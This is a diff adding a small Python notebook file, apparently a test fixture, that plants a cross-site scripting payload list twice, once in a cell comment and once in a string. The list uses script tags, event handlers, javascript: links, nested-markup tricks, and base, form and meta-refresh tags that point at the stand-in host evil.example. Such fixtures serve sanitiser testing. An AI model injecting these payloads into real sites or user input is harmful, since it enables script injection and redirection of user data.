@@ -1,0 +1,5 @@
+"""Writes scripts into its own code, comments, cell ids, names and the notebook's metadata."""
+
+# %% after="work-test"
+# <script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><svg onload=alert(1)></svg><iframe src="javascript:alert(1)"></iframe><style>@import "//evil.example";</style><form action="//evil.example"><input name=p></form><base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><object data="//evil.example"></object><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
+x = """<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><svg onload=alert(1)></svg><iframe src="javascript:alert(1)"></iframe><style>@import "//evil.example";</style><form action="//evil.example"><input name=p></form><base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><object data="//evil.example"></object><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"""
